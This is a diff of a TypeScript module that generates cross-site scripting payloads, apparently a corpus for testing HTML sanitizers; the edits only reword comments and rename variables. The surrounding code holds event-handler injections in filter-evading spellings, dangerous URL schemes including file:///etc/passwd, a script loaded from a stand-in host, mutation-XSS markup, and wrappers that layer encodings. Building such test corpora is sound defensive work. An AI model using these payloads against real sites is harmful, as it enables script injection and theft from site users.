@@ -1,4 +1,4 @@
-/** Hostile bodies by family: each family is a shape, filled with what browsers are known to run (TRUST C1). */
+/** Hostile bodies by family: each family is a shape, filled with what browsers are known to execute (C1). */
 const RUN = 'alert(1)'
 
 const handlers = [
@@ -12,7 +12,7 @@ const handlers = [
   'onpointerenter',
 ]
 
-/** Elements with a handler, in the spellings that filters miss. */
+/** Elements with an event handler, in spellings that filters miss. */
 const withHandlers = handlers.flatMap((handler) => [
   `<img src=x ${handler}=${RUN}>`,
   `<img src=x ${handler.toUpperCase()}="${RUN}">`,
@@ -45,7 +45,7 @@ const schemes = [
   `file:///etc/passwd`,
   `filesystem:https://a.example/x`,
 ]
-/** Places that take an address. */
+/** Attributes that take an address. */
 const withSchemes = schemes.flatMap((scheme) => [
   `<a href="${scheme}">x</a>`,
   `<img src="${scheme}">`,
@@ -55,7 +55,7 @@ const withSchemes = schemes.flatMap((scheme) => [
   `<svg><a xlink:href="${scheme}"><text>x</text></a></svg>`,
 ])
 
-/** Elements that run, load, cover or mislead by themselves. */
+/** Elements that run, load, cover or mislead without further action. */
 const elements = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=//a.example/x.js></SCRIPT>`,
@@ -97,7 +97,7 @@ const elements = [
   `<frameset onload=${RUN}></frameset>`,
 ]
 
-/** Markup that changes its meaning when a browser reads it a second time. */
+/** Markup that changes its meaning when a browser parses it a second time. */
 const mutations = [
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
@@ -127,8 +127,8 @@ export const payloads: readonly string[] = [
   ...new Set([...withHandlers, ...withSchemes, ...elements, ...mutations]),
 ]
 
-/** Places and spellings in which filters and browsers have disagreed before. */
-const DRESSES: readonly ((payload: string) => string)[] = [
+/** Contexts and spellings in which filters and browsers have disagreed before. */
+const WRAPPERS: readonly ((payload: string) => string)[] = [
   (payload) => `<p>${payload}</p>`,
   (payload) => `<blockquote><ul><li>${payload}`,
   (payload) => `<a href="https://a.example">${payload}</a>`,
@@ -165,20 +165,20 @@ const DRESSES: readonly ((payload: string) => string)[] = [
   (payload) => payload.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;'),
 ]
 
-/** The payloads as they are, then in every dress, then in dress over dress, each once, up to a number. */
+/** The payloads as they are, then wrapped, then wrapped repeatedly, each once, up to `count`. */
 export const payloadsUpTo = (count: number): readonly string[] => {
   const found = new Set(payloads)
   for (let layer: readonly string[] = payloads; found.size < count;) {
-    const before = found.size
+    const sizeBefore = found.size
     const next: string[] = []
-    for (const dress of DRESSES)
+    for (const wrap of WRAPPERS)
       for (const payload of layer) {
         if (found.size >= count) return [...found]
-        const dressed = dress(payload)
-        if (!found.has(dressed)) next.push(dressed)
-        found.add(dressed)
+        const wrapped = wrap(payload)
+        if (!found.has(wrapped)) next.push(wrapped)
+        found.add(wrapped)
       }
-    if (found.size === before) break
+    if (found.size === sizeBefore) break
     layer = next
   }
   return [...found]
